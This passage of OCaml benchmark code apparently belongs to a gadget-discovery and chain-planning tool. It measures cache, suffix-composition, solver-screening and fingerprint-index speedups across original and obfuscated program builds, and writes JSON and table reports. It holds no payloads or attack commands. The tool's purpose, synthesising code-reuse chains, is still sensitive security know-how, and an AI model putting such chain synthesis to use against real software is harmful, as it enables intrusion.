    (cold_total /. max 1e-9 warm_same_total);
  p "  \"obf_cross_speedup\": %.2f,\n" cross_speedup;
  p "  \"obf_orig_only_speedup\": %.2f,\n" orig_only_speedup;
  p "  \"store_entries\": %d,\n" store_entries;
  p "  \"load_s\": %.4f,\n" load_s;
  p "  \"save_s\": %.4f,\n" save_s;
  p "  \"all_agree\": %b\n" (List.for_all (fun r -> r.i_agree) rows);
  p "}\n";
  close_out oc

let incr ?(quick = true) ?(jobs = 4) ?(cache_root = ".gp-cache/bench")
    ?(out = "BENCH_incr.json") () =
  rm_rf cache_root;
  let fingerprint (a : Gp_core.Api.analysis) =
    List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
      a.Gp_core.Api.gadgets
  in
  let timed_analyze image =
    Gp_core.Api.timed (fun () -> Gp_core.Api.analyze ~jobs image)
  in
  let row prog cname mode (a : Gp_core.Api.analysis) seconds ~loaded agree =
    { i_program = prog; i_config = cname; i_mode = mode;
      i_seconds = seconds;
      i_hits = a.Gp_core.Api.analysis_summary_hits;
      i_misses = a.Gp_core.Api.analysis_summary_misses;
      i_loaded = loaded;
      i_agree = agree }
  in
  (* compile every cell up front; sweep config-major (originals first),
     the order a survey accumulates in *)
  let images =
    survey_cells ~quick (fun entry cname cfg ->
        ( entry.Gp_corpus.Programs.name,
          cname,
          Gp_codegen.Pipeline.compile
            ~transform:(Gp_obf.Obf.transform cfg)
            entry.Gp_corpus.Programs.source ))
  in
  let cells =
    List.concat_map
      (fun (cname, _) -> List.filter (fun (_, c, _) -> c = cname) images)
      (survey_configs ())
  in
  (* --- cold sweep: empty store, one shared process, save at the end --- *)
  reset_world ();
  let cold =
    List.map
      (fun (prog, cname, image) ->
        let a, t = timed_analyze image in
        ((prog, cname), fingerprint a,
         row prog cname "cold" a t ~loaded:0 true))
      cells
  in
  let fp_of key =
    let _, fp, _ = List.find (fun (k, _, _) -> k = key) cold in
    fp
  in
  let survey_dir = Filename.concat cache_root "survey" in
  let save_err = ref None in
  let (), save_s =
    Gp_core.Api.timed (fun () ->
        match Gp_core.Incr.save ~dir:survey_dir with
        | Ok () -> ()
        | Error why -> save_err := Some why)
  in
  (* --- warm-cross sweep: fresh world, the survey store loaded once --- *)
  reset_world ();
  let loaded, load_s =
    Gp_core.Api.timed (fun () ->
        match Gp_core.Incr.load ~dir:survey_dir with
        | Gp_core.Incr.Loaded li ->
          li.Gp_core.Incr.li_entries + li.Gp_core.Incr.li_wal_replayed
        | Gp_core.Incr.Absent | Gp_core.Incr.Rejected _ -> 0)
  in
  let warm_cross =
    List.map
      (fun (prog, cname, image) ->
        let a, t = timed_analyze image in
        row prog cname "warm-cross" a t ~loaded
          (fingerprint a = fp_of (prog, cname)))
      cells
  in
  (* --- warm-same: per-cell store primed by that cell alone --- *)
  let warm_same =
    List.map
      (fun (prog, cname, image) ->
        let d = Filename.concat cache_root ("same-" ^ prog ^ "-" ^ cname) in
        reset_world ();
        ignore (Gp_core.Api.analyze ~jobs ~cache_dir:d image);
        reset_world ();
        let n =
          match Gp_core.Incr.load ~dir:d with
          | Gp_core.Incr.Loaded li ->
            li.Gp_core.Incr.li_entries + li.Gp_core.Incr.li_wal_replayed
          | _ -> 0
        in
        let a, t = timed_analyze image in
        row prog cname "warm-same" a t ~loaded:n
          (fingerprint a = fp_of (prog, cname)))
      cells
  in
  (* --- warm-orig-only: obfuscated cells, original-config store only --- *)
  let orig_dir = Filename.concat cache_root "orig-only" in
  reset_world ();
  List.iter
    (fun (_, cname, image) ->
      if cname = "original" then ignore (Gp_core.Api.analyze ~jobs image))
    cells;
  (match Gp_core.Incr.save ~dir:orig_dir with Ok () | Error _ -> ());
  let orig_only =
    List.filter_map
      (fun (prog, cname, image) ->
        if cname = "original" then None
        else begin
          reset_world ();
          let n =
            match Gp_core.Incr.load ~dir:orig_dir with
            | Gp_core.Incr.Loaded li ->
              li.Gp_core.Incr.li_entries + li.Gp_core.Incr.li_wal_replayed
            | _ -> 0
          in
          let a, t = timed_analyze image in
          Some
            (row prog cname "warm-orig-only" a t ~loaded:n
               (fingerprint a = fp_of (prog, cname)))
        end)
      cells
  in
  let rows =
    List.map (fun (_, _, r) -> r) cold @ warm_cross @ warm_same @ orig_only
  in
  let total mode cfg_filter =
    List.fold_left
      (fun acc r ->
        if r.i_mode = mode && cfg_filter r.i_config then acc +. r.i_seconds
        else acc)
      0. rows
  in
  let any _ = true and obf c = c <> "original" in
  let cold_total = total "cold" any in
  let warm_cross_total = total "warm-cross" any in
  let warm_same_total = total "warm-same" any in
  let cross_speedup = total "cold" obf /. max 1e-9 (total "warm-cross" obf) in
  let orig_only_speedup =
    total "cold" obf /. max 1e-9 (total "warm-orig-only" obf)
  in
  incr_json (out_path out) ~jobs ~rows ~cold_total ~warm_cross_total ~warm_same_total
    ~orig_only_speedup ~cross_speedup ~load_s ~save_s ~store_entries:loaded;
  let t =
    Table.create
      ~title:
        (Printf.sprintf
           "Incremental store: cold vs warm analyze (jobs=%d, %d core(s))"
           jobs (Gp_util.Par.available ()))
      ~header:
        [ "program"; "config"; "mode"; "time (s)"; "hits"; "misses";
          "loaded"; "agree" ]
  in
  List.iter
    (fun r ->
      Table.add_row t
        [ r.i_program; r.i_config; r.i_mode;
          Printf.sprintf "%.3f" r.i_seconds;
          string_of_int r.i_hits; string_of_int r.i_misses;
          string_of_int r.i_loaded;
          (if r.i_agree then "yes" else "NO") ])
    rows;
  let txt =
    Table.render t
    ^ Printf.sprintf
        "cold %.3fs; warm-cross %.3fs (obf speedup %.2fx); warm-same \
         %.3fs (%.2fx); obf orig-only speedup %.2fx; store %d entries \
         (load %.3fs, save %.3fs%s); wrote %s\n"
        cold_total warm_cross_total cross_speedup warm_same_total
        (cold_total /. max 1e-9 warm_same_total)
        orig_only_speedup loaded load_s save_s
        (match !save_err with
         | None -> ""
         | Some why -> ", SAVE FAILED: " ^ why)
        out
  in
  (txt, rows)

(* ---------- suffix composition: off vs on (DESIGN.md §16) ---------- *)

(* Extraction-stage cost with the suffix-compositional summarizer
   disabled vs enabled, per survey cell, interleaved off/on at equal
   [jobs] so machine drift hits both sides alike.  The obfuscated cells
   are the headline: obfuscation multiplies overlapping starts into the
   same tails (that is the paper's point), which is exactly the
   redundancy composition removes.  Three temperatures:

   - "off" / "on"      — cold per-cell harvests (fresh world each, the
     persistent store disabled so neither side pays or pockets store
     traffic), differing only in the ablation flag; best of three
     interleaved runs.  [agree] compares the gadget list (ids and
     addresses, in order) — the flag must be result-invisible.
   - "warm-on"         — the survey's suffix+summary store (populated by
     a config-major composed sweep, saved, reloaded cold) answering a
     re-harvest.
   - "orig-only-on"    — obfuscated cells harvested with a store holding
     ONLY the original-config cells: strict original-to-obfuscated
     transfer.  Whole-gadget content keys mostly miss here (the
     obfuscators rewrite prefixes); suffix keys survive wherever a tail
     is left intact, which is the transfer lift the suffix section of
     the store exists for.  The row reports both hit kinds so the lift
     is visible. *)

type compose_row = {
  cp_program : string;
  cp_config : string;
  cp_mode : string;     (* off | on | warm-on | orig-only-on *)
  cp_seconds : float;
  cp_suffix_hits : int;     (* memo + store suffix hits in the harvest *)
  cp_suffix_misses : int;
  cp_substitutions : int;   (* suffixes built by Exec.extend *)
  cp_store_hits : int;      (* persistent suffix-store hits (Incr delta) *)
  cp_summary_hits : int;    (* whole-gadget store hits *)
  cp_summary_misses : int;
  cp_agree : bool;          (* gadget list identical to the off reference *)
}

let compose_json path ~jobs ~rows ~off_total_obf ~on_total_obf ~speedup
    ~transfer:(t_store_hits, t_store_misses, t_summary_hits, t_summary_misses)
    ~all_agree =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"compose";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"extraction stage (Extract.harvest_r) per survey \
     cell with the suffix-compositional summarizer off vs on, \
     interleaved at equal jobs; gadget lists must be bit-identical \
     (agree).  Cold off/on rows are the pure ablation: persistent \
     store disabled on both sides, best of three runs.  Read the \
     ratio honestly: the term layer's global simplify/linearize memo \
     already shares canonicalization across overlapping starts, so \
     the monolithic executor steps at ~2us/insn while one extend is \
     a full-state substitution (~8-14us) against chains averaging \
     ~10 insns — composition does not win cold on this corpus.  \
     warm-on re-harvests against the survey's saved suffix+summary \
     store; orig-only-on harvests obfuscated cells against a store \
     holding only the original-config cells, isolating \
     original-to-obfuscated transfer — suffix_store_hits vs \
     summary_hits shows the lift suffix keys add over whole-gadget \
     keys there.\",\n";
  p "  \"rows\": [\n";
  List.iteri
    (fun i r ->
      p "    { \"program\": %S, \"config\": %S, \"mode\": %S, \
         \"seconds\": %.4f, \"suffix_hits\": %d, \"suffix_misses\": %d, \
         \"substitutions\": %d, \"suffix_store_hits\": %d, \
         \"summary_hits\": %d, \"agree\": %b }%s\n"
        r.cp_program r.cp_config r.cp_mode r.cp_seconds r.cp_suffix_hits
        r.cp_suffix_misses r.cp_substitutions r.cp_store_hits
        r.cp_summary_hits r.cp_agree
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ],\n";
  p "  \"off_total_obf_s\": %.4f,\n" off_total_obf;
  p "  \"on_total_obf_s\": %.4f,\n" on_total_obf;
  p "  \"extract_speedup_obf\": %.2f,\n" speedup;
  p "  \"transfer_suffix_store_hits\": %d,\n" t_store_hits;
  p "  \"transfer_suffix_store_misses\": %d,\n" t_store_misses;
  p "  \"transfer_summary_hits\": %d,\n" t_summary_hits;
  p "  \"transfer_summary_misses\": %d,\n" t_summary_misses;
  p "  \"all_agree\": %b\n" all_agree;
  p "}\n";
  close_out oc

let compose ?(quick = true) ?(jobs = 4) ?(cache_root = ".gp-cache/bench-compose")
    ?(out = "BENCH_compose.json") () =
  rm_rf cache_root;
  let with_compose b f =
    let prev = Gp_symx.Exec.compose_enabled () in
    Gp_symx.Exec.set_compose_enabled b;
    Fun.protect ~finally:(fun () -> Gp_symx.Exec.set_compose_enabled prev) f
  in
  let fingerprint gs =
    List.map
      (fun (g : Gp_core.Gadget.t) -> (g.Gp_core.Gadget.id, g.Gp_core.Gadget.addr))
      gs
  in
  (* one timed harvest, with the store-hit counters delta'd around it *)
  let harvest_once image =
    Gp_core.Gadget.reset_ids ();
    let sh0, sm0 = Gp_core.Incr.suffix_store_stats () in
    let (gs, st), t =
      Gp_core.Api.timed (fun () -> Gp_core.Extract.harvest_r ~jobs image)
    in
    let sh1, sm1 = Gp_core.Incr.suffix_store_stats () in
    (gs, st, t, sh1 - sh0, sm1 - sm0)
  in
  let row prog cname mode (st : Gp_core.Extract.harvest_stats) t ~store_hits
      agree =
    { cp_program = prog; cp_config = cname; cp_mode = mode; cp_seconds = t;
      cp_suffix_hits = st.Gp_core.Extract.h_suffix_hits;
      cp_suffix_misses = st.Gp_core.Extract.h_suffix_misses;
      cp_substitutions = st.Gp_core.Extract.h_substitutions;
      cp_store_hits = store_hits;
      cp_summary_hits = st.Gp_core.Extract.h_summary_hits;
      cp_summary_misses = st.Gp_core.Extract.h_summary_misses;
      cp_agree = agree }
  in
  let images =
    survey_cells ~quick (fun entry cname cfg ->
        ( entry.Gp_corpus.Programs.name,
          cname,
          Gp_codegen.Pipeline.compile
            ~transform:(Gp_obf.Obf.transform cfg)
            entry.Gp_corpus.Programs.source ))
  in
  let cells =
    List.concat_map
      (fun (cname, _) -> List.filter (fun (_, c, _) -> c = cname) images)
      (survey_configs ())
  in
  (* --- cold, interleaved off/on per cell (store disabled, best of 3) --- *)
  let cold =
    List.map
      (fun (prog, cname, image) ->
        Gp_core.Incr.set_enabled false;
        let cold_one compose =
          let best = ref None in
          for _ = 1 to 3 do
            reset_world ();
            let gs, st, t, _, _ =
              with_compose compose (fun () -> harvest_once image)
            in
            match !best with
            | Some (_, _, tb) when tb <= t -> ()
            | _ -> best := Some (gs, st, t)
          done;
          Option.get !best
        in
        let gs_off, st_off, t_off = cold_one false in
        let gs_on, st_on, t_on = cold_one true in
        Gp_core.Incr.set_enabled true;
        let fp = fingerprint gs_off in
        let agree = fingerprint gs_on = fp in
        ( (prog, cname),
          fp,
          [ row prog cname "off" st_off t_off ~store_hits:0 true;
            row prog cname "on" st_on t_on ~store_hits:0 agree ] ))
      cells
  in
  let fp_of key =
    let _, fp, _ = List.find (fun (k, _, _) -> k = key) cold in
    fp
  in
  (* --- populate + save the shared survey store (composed sweep) --- *)
  let survey_dir = Filename.concat cache_root "survey" in
  with_compose true (fun () ->
      reset_world ();
      List.iter (fun (_, _, image) -> ignore (harvest_once image)) cells;
      (match Gp_core.Incr.save ~dir:survey_dir with Ok () | Error _ -> ()));
  (* --- warm-on: the saved store answering a fresh process --- *)
  let warm =
    with_compose true (fun () ->
        reset_world ();
        ignore (Gp_core.Incr.load ~dir:survey_dir);
        List.map
          (fun (prog, cname, image) ->
            let gs, st, t, sh, _ = harvest_once image in
            row prog cname "warm-on" st t ~store_hits:sh
              (fingerprint gs = fp_of (prog, cname)))
          cells)
  in
  (* --- orig-only-on: strict original-to-obfuscated transfer --- *)
  let orig_dir = Filename.concat cache_root "orig-only" in
  with_compose true (fun () ->
      reset_world ();
      List.iter
        (fun (_, cname, image) ->
          if cname = "original" then ignore (harvest_once image))
        cells;
      (match Gp_core.Incr.save ~dir:orig_dir with Ok () | Error _ -> ()));
  let transfer =
    with_compose true (fun () ->
        List.filter_map
          (fun (prog, cname, image) ->
            if cname = "original" then None
            else begin
              reset_world ();
              ignore (Gp_core.Incr.load ~dir:orig_dir);
              let gs, st, t, sh, _ = harvest_once image in
              Some
                (row prog cname "orig-only-on" st t ~store_hits:sh
                   (fingerprint gs = fp_of (prog, cname)))
            end)
          cells)
  in
  let rows = List.concat_map (fun (_, _, rs) -> rs) cold @ warm @ transfer in
  let total mode cfg_filter =
    List.fold_left
      (fun acc r ->
        if r.cp_mode = mode && cfg_filter r.cp_config then acc +. r.cp_seconds
        else acc)
      0. rows
  in
  let obf c = c <> "original" in
  let off_total_obf = total "off" obf in
  let on_total_obf = total "on" obf in
  let speedup = off_total_obf /. max 1e-9 on_total_obf in
  let sum f =
    List.fold_left
      (fun acc r -> if r.cp_mode = "orig-only-on" then acc + f r else acc)
      0 rows
  in
  let t_store_hits = sum (fun r -> r.cp_store_hits) in
  let t_store_misses = sum (fun r -> r.cp_suffix_misses) in
  let t_summary_hits = sum (fun r -> r.cp_summary_hits) in
  let t_summary_misses = sum (fun r -> r.cp_summary_misses) in
  let all_agree = List.for_all (fun r -> r.cp_agree) rows in
  compose_json (out_path out) ~jobs ~rows ~off_total_obf ~on_total_obf ~speedup
    ~transfer:(t_store_hits, t_store_misses, t_summary_hits, t_summary_misses)
    ~all_agree;
  let t =
    Table.create
      ~title:
        (Printf.sprintf
           "Suffix composition: extraction off vs on (jobs=%d, %d core(s))"
           jobs (Gp_util.Par.available ()))
      ~header:
        [ "program"; "config"; "mode"; "time (s)"; "sfx hits"; "sfx miss";
          "subst"; "store hits"; "agree" ]
  in
  List.iter
    (fun r ->
      Table.add_row t
        [ r.cp_program; r.cp_config; r.cp_mode;
          Printf.sprintf "%.3f" r.cp_seconds;
          string_of_int r.cp_suffix_hits;
          string_of_int r.cp_suffix_misses;
          string_of_int r.cp_substitutions;
          string_of_int r.cp_store_hits;
          (if r.cp_agree then "yes" else "NO") ])
    rows;
  let txt =
    Table.render t
    ^ Printf.sprintf
        "obfuscated extraction: off %.3fs, on %.3fs — speedup %.2fx; \
         orig-only transfer: %d suffix-store hits (+%d whole-gadget \
         hits); all agree: %b; wrote %s\n"
        off_total_obf on_total_obf speedup t_store_hits t_summary_hits
        all_agree out
  in
  (txt, rows)

(* ---------- screening front-end: off vs on (DESIGN.md §12) ---------- *)

(* Cost of the solver-bound pipeline (analyze + plan over the three
   goals) with the tiered screening front-end disabled vs enabled.
   Each sweep models a fresh survey process: every process-global cache
   is emptied first ([reset_world]), then the cells run config-major
   (originals first) with the memos ON — so by the time the obfuscated
   cells run, the verdict memos are warm with the original cells'
   entries, exactly the temperature a long-running survey gives them.
   What screening accelerates is the queries that stay cold at that
   temperature: obfuscation-new formula shapes, and above all the
   subsumption entailment probes whose randomized model search burns
   its whole trial budget before answering Unknown (Tier B refutes
   those from a dozen fixed valuations).  Results must be bit-identical
   either way: [agree] compares pools address-for-address and outcomes
   chain-for-chain, stat-for-stat — cache counters excluded
   (temperature), screening tallies excluded (they are what the
   ablation toggles). *)

type screen_row = {
  sc_program : string;
  sc_config : string;
  sc_off_s : float;     (* screening disabled, end to end *)
  sc_on_s : float;      (* screening enabled (the shipped default) *)
  sc_off_solver_s : float;  (* minus stage-4 validation (emulation,
                               solver-free — see the note) *)
  sc_on_solver_s : float;
  sc_chains : int;      (* validated chains, summed over goals *)
  sc_agree : bool;      (* identical pool, chains and stats, off vs on *)
}

let screen_json path ~jobs ~reps ~rows ~off_total ~on_total ~obf_speedup
    ~obf_speedup_end_to_end ~counters:(sr, sd, cr, er) =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"screen";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"reps\": %d,\n" reps;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"analyze + plan (all goals) per survey cell, tiered \
     solver screening (DESIGN.md section 12) off vs on.  Each sweep \
     starts as a fresh survey process and runs config-major with the \
     verdict memos enabled, so the obfuscated cells run against memos \
     warmed by the original cells; screening earns its keep on the \
     queries that stay cold at that temperature.  Per-cell seconds are \
     the best of `reps` sweeps each way, with the within-rep off/on \
     order alternating so machine drift cannot bias one mode.  \
     off_solver_s/on_solver_s subtract the cell's stage-1 extraction \
     and stage-4 validation seconds (decode/summarization and concrete \
     emulation of candidate payloads — neither issues a solver query, \
     so both are constant additive terms either way), isolating the \
     solver-consuming stages (subsumption + planning); obf_speedup is \
     the ratio of those solver-stage times over the obfuscated cells, \
     obf_speedup_end_to_end the uncorrected ratio.  agree compares \
     pool, chains and deterministic stats bit-for-bit.  The per-tier \
     counters are the on-sweep totals.\",\n";
  p "  \"rows\": [\n";
  List.iteri
    (fun i r ->
      p "    { \"program\": %S, \"config\": %S, \"off_s\": %.4f, \
         \"on_s\": %.4f, \"off_solver_s\": %.4f, \"on_solver_s\": %.4f, \
         \"chains\": %d, \"agree\": %b }%s\n"
        r.sc_program r.sc_config r.sc_off_s r.sc_on_s r.sc_off_solver_s
        r.sc_on_solver_s r.sc_chains r.sc_agree
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ],\n";
  p "  \"off_total_s\": %.4f,\n" off_total;
  p "  \"on_total_s\": %.4f,\n" on_total;
  p "  \"speedup\": %.2f,\n" (off_total /. max 1e-9 on_total);
  p "  \"obf_speedup\": %.2f,\n" obf_speedup;
  p "  \"obf_speedup_end_to_end\": %.2f,\n" obf_speedup_end_to_end;
  p "  \"screen_refuted\": %d,\n" sr;
  p "  \"screen_decided\": %d,\n" sd;
  p "  \"concrete_refuted\": %d,\n" cr;
  p "  \"elim_reused\": %d,\n" er;
  p "  \"all_agree\": %b\n" (List.for_all (fun r -> r.sc_agree) rows);
  p "}\n";
  close_out oc

let screen ?(quick = true) ?(jobs = 4) ?(out = "BENCH_screen.json") () =
  let planner_config =
    { Gp_core.Planner.default_config with
      Gp_core.Planner.node_budget = 1200; max_plans = 6 }
  in
  let cells =
    survey_cells ~config_major:true ~quick (fun entry cname cfg ->
        ( entry.Gp_corpus.Programs.name,
          cname,
          Gp_codegen.Pipeline.compile
            ~transform:(Gp_obf.Obf.transform cfg)
            entry.Gp_corpus.Programs.source ))
  in
  let run_cell image =
    Gp_core.Gadget.reset_ids ();
    let a = Gp_core.Api.analyze ~jobs image in
    let os =
      List.map
        (fun g -> Gp_core.Api.run_with_analysis ~planner_config ~jobs a g)
        Workspace.goals
    in
    (a, os)
  in
  let cell_fingerprint (a, os) =
    ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
        a.Gp_core.Api.gadgets,
      List.map plan_fingerprint os )
  in
  (* Stage-1 extraction (decode + symbolic summarization) and stage-4
     validation (concrete emulation of candidate payloads) issue no
     solver query, so their seconds are the same additive constant
     whichever way the toggle points; subtracting both isolates the
     solver-consuming stages (subsumption + planning) the front-end
     actually fronts.  [analyze]/[run_with_analysis] already measure
     them. *)
  let solver_free_seconds ((a : Gp_core.Api.analysis), os) =
    List.fold_left
      (fun acc (o : Gp_core.Api.outcome) ->
        acc +. o.Gp_core.Api.stats.Gp_core.Api.validate_time)
      a.Gp_core.Api.extract_time os
  in
  let sweep enabled =
    Gp_smt.Solver.set_screen_enabled enabled;
    Fun.protect
      ~finally:(fun () -> Gp_smt.Solver.set_screen_enabled true)
      (fun () ->
        reset_world ();
        Gc.compact ();
        List.map
          (fun (_, _, image) ->
            let r, t = Gp_core.Api.timed (fun () -> run_cell image) in
            (r, t, t -. solver_free_seconds r))
          cells)
  in
  (* Best-of-[reps] per cell: single-shot wall clocks on a shared box
     are dominated by scheduler noise at these durations; the minimum
     is the standard low-variance estimator.  The off/on sweeps are
     interleaved per rep, and the within-rep order alternates
     (off-on, on-off, ...) so slow machine drift — thermal throttling,
     a neighbour waking up — lands on both sides instead of biasing
     whichever mode consistently ran last.  Results (and hence the
     agreement check) come from the first sweep — every sweep computes
     bit-identical results anyway, that is the point. *)
  let reps = 6 in
  let rec times n f = if n <= 0 then [] else let x = f n in x :: times (n - 1) f in
  let best sweeps =
    List.fold_left
      (List.map2
         (fun (r, t, ts) (_, t', ts') -> (r, min t t', min ts ts')))
      (List.hd sweeps) (List.tl sweeps)
  in
  (* Counters are per-query deterministic (the differential suite
     asserts it), so any on-sweep's totals will do; snapshot each one
     because [reset_world] zeroes them and the LAST sweep may be an
     off-sweep. *)
  let counters = ref (0, 0, 0, 0) in
  let pairs =
    times reps (fun i ->
        let sweep_on () =
          let n = sweep true in
          counters := Gp_smt.Solver.screen_stats ();
          n
        in
        if i mod 2 = 0 then
          let o = sweep false in
          let n = sweep_on () in
          (o, n)
        else
          let n = sweep_on () in
          let o = sweep false in
          (o, n))
  in
  let off = best (List.map fst pairs) in
  let on = best (List.map snd pairs) in
  let counters = !counters in
  let rows =
    List.map2
      (fun (prog, cname, _) ((r_off, t_off, ts_off), (r_on, t_on, ts_on)) ->
        { sc_program = prog;
          sc_config = cname;
          sc_off_s = t_off;
          sc_on_s = t_on;
          sc_off_solver_s = ts_off;
          sc_on_solver_s = ts_on;
          sc_chains =
            (let _, os = r_on in
             List.fold_left
               (fun acc (o : Gp_core.Api.outcome) ->
                 acc + List.length o.Gp_core.Api.chains)
               0 os);
          sc_agree = cell_fingerprint r_off = cell_fingerprint r_on })
      cells
      (List.combine off on)
  in
  let total sel cfg_filter =
    List.fold_left
      (fun acc r -> if cfg_filter r.sc_config then acc +. sel r else acc)
      0. rows
  in
  let any _ = true and obf c = c <> "original" in
  let off_total = total (fun r -> r.sc_off_s) any in
  let on_total = total (fun r -> r.sc_on_s) any in
  let obf_speedup =
    total (fun r -> r.sc_off_solver_s) obf
    /. max 1e-9 (total (fun r -> r.sc_on_solver_s) obf)
  in
  let obf_speedup_end_to_end =
    total (fun r -> r.sc_off_s) obf
    /. max 1e-9 (total (fun r -> r.sc_on_s) obf)
  in
  screen_json (out_path out) ~jobs ~reps ~rows ~off_total ~on_total ~obf_speedup
    ~obf_speedup_end_to_end ~counters;
  let sr, sd, cr, er = counters in
  let t =
    Table.create
      ~title:
        (Printf.sprintf
           "Tiered solver screening: off vs on (jobs=%d, %d core(s))"
           jobs (Gp_util.Par.available ()))
      ~header:
        [ "program"; "config"; "off (s)"; "on (s)"; "off solver";
          "on solver"; "speedup"; "chains"; "agree" ]
  in
  List.iter
    (fun r ->
      Table.add_row t
        [ r.sc_program; r.sc_config;
          Printf.sprintf "%.3f" r.sc_off_s;
          Printf.sprintf "%.3f" r.sc_on_s;
          Printf.sprintf "%.3f" r.sc_off_solver_s;
          Printf.sprintf "%.3f" r.sc_on_solver_s;
          Printf.sprintf "%.2fx"
            (r.sc_off_solver_s /. max 1e-9 r.sc_on_solver_s);
          string_of_int r.sc_chains;
          (if r.sc_agree then "yes" else "NO") ])
    rows;
  Table.add_row t
    [ "TOTAL"; "-";
      Printf.sprintf "%.3f" off_total;
      Printf.sprintf "%.3f" on_total;
      Printf.sprintf "%.3f" (total (fun r -> r.sc_off_solver_s) any);
      Printf.sprintf "%.3f" (total (fun r -> r.sc_on_solver_s) any);
      Printf.sprintf "%.2fx"
        (total (fun r -> r.sc_off_solver_s) any
        /. max 1e-9 (total (fun r -> r.sc_on_solver_s) any));
      "-"; "-" ];
  let txt =
    Table.render t
    ^ Printf.sprintf
        "obfuscated-config solver-stage speedup: %.2fx (end to end \
         %.2fx); tiers: %d abstract refutations, %d decided, %d concrete \
         refutations, %d elimination reuses; wrote %s\n"
        obf_speedup obf_speedup_end_to_end sr sd cr er out
  in
  (txt, rows)

(* ---------- fingerprint index: off vs on (DESIGN.md §17) ---------- *)

(* Same protocol as [screen] — fresh-process sweeps, config-major so
   obfuscated cells run against memos warmed by the originals,
   best-of-reps with alternating within-rep order, solver-free seconds
   subtracted — but the toggle is the semantic fingerprint index and
   the screening front-end stays ON both ways.  So the off sweep is
   the shipped PR-9 configuration and the measured delta is what the
   fingerprints add ON TOP of tiered screening: subsumption pairs
   partitioned away before [Solver.prove_equal]/[entails] are even
   called, entailment probes killed by the precondition bitmask, and
   planner instantiations refuted on closed terms without building the
   query.  Results must be bit-identical either way, as for every
   ablation here. *)

type fp_row = {
  fr_program : string;
  fr_config : string;
  fr_off_s : float;     (* fingerprints disabled (PR-9 baseline) *)
  fr_on_s : float;      (* fingerprints enabled (the shipped default) *)
  fr_off_solver_s : float;
  fr_on_solver_s : float;
  fr_chains : int;
  fr_agree : bool;
}

let fp_json path ~jobs ~reps ~rows ~off_total ~on_total ~obf_speedup
    ~obf_speedup_end_to_end ~counters:(fh, fm, fr) =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"fp";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"reps\": %d,\n" reps;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"analyze + plan (all goals) per survey cell, semantic \
     fingerprint index (DESIGN.md section 17) off vs on, with the \
     tiered screening front-end of section 12 ON both ways — the \
     measured delta is what amortized multi-point evaluation adds on \
     top of per-query screening.  Same protocol as the screen \
     experiment: each sweep models a fresh survey process, cells run \
     config-major so obfuscated cells hit memos warmed by the \
     originals, per-cell seconds are the best of `reps` interleaved \
     sweeps each way with alternating within-rep order, and \
     off_solver_s/on_solver_s subtract stage-1 extraction and stage-4 \
     validation (no solver queries either side of the toggle), \
     isolating subsumption + planning.  obf_speedup is the ratio of \
     those solver-stage seconds over the obfuscated cells.  agree \
     compares pool, chains and deterministic stats bit-for-bit.  \
     fp_hits/fp_misses are one on-sweep's store traffic (first-write \
     races can shift the split by a few at jobs>1); fp_refuted is \
     per-probe deterministic.\",\n";
  p "  \"rows\": [\n";
  List.iteri
    (fun i r ->
      p "    { \"program\": %S, \"config\": %S, \"off_s\": %.4f, \
         \"on_s\": %.4f, \"off_solver_s\": %.4f, \"on_solver_s\": %.4f, \
         \"chains\": %d, \"agree\": %b }%s\n"
        r.fr_program r.fr_config r.fr_off_s r.fr_on_s r.fr_off_solver_s
        r.fr_on_solver_s r.fr_chains r.fr_agree
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ],\n";
  p "  \"off_total_s\": %.4f,\n" off_total;
  p "  \"on_total_s\": %.4f,\n" on_total;
  p "  \"speedup\": %.2f,\n" (off_total /. max 1e-9 on_total);
  p "  \"obf_speedup\": %.2f,\n" obf_speedup;
  p "  \"obf_speedup_end_to_end\": %.2f,\n" obf_speedup_end_to_end;
  p "  \"fp_hits\": %d,\n" fh;
  p "  \"fp_misses\": %d,\n" fm;
  p "  \"fp_refuted\": %d,\n" fr;
  p "  \"all_agree\": %b\n" (List.for_all (fun r -> r.fr_agree) rows);
  p "}\n";
  close_out oc

let fp ?(quick = true) ?(jobs = 4) ?(out = "BENCH_fp.json") () =
  let planner_config =
    { Gp_core.Planner.default_config with
      Gp_core.Planner.node_budget = 1200; max_plans = 6 }
  in
  let cells =
    survey_cells ~config_major:true ~quick (fun entry cname cfg ->
        ( entry.Gp_corpus.Programs.name,
          cname,
          Gp_codegen.Pipeline.compile
            ~transform:(Gp_obf.Obf.transform cfg)
            entry.Gp_corpus.Programs.source ))
  in
  let run_cell image =
    Gp_core.Gadget.reset_ids ();
    let a = Gp_core.Api.analyze ~jobs image in
    let os =
      List.map
        (fun g -> Gp_core.Api.run_with_analysis ~planner_config ~jobs a g)
        Workspace.goals
    in
    (a, os)
  in
  let cell_fingerprint (a, os) =
    ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
        a.Gp_core.Api.gadgets,
      List.map plan_fingerprint os )
  in
  let solver_free_seconds ((a : Gp_core.Api.analysis), os) =
    List.fold_left
      (fun acc (o : Gp_core.Api.outcome) ->
        acc +. o.Gp_core.Api.stats.Gp_core.Api.validate_time)
      a.Gp_core.Api.extract_time os
  in
  let sweep enabled =
    Gp_smt.Fpeval.set_enabled enabled;
    Fun.protect
      ~finally:(fun () -> Gp_smt.Fpeval.set_enabled true)
      (fun () ->
        reset_world ();
        Gc.compact ();
        List.map
          (fun (_, _, image) ->
            let r, t = Gp_core.Api.timed (fun () -> run_cell image) in
            (r, t, t -. solver_free_seconds r))
          cells)
  in
  let reps = 6 in
  let rec times n f = if n <= 0 then [] else let x = f n in x :: times (n - 1) f in
  let best sweeps =
    List.fold_left
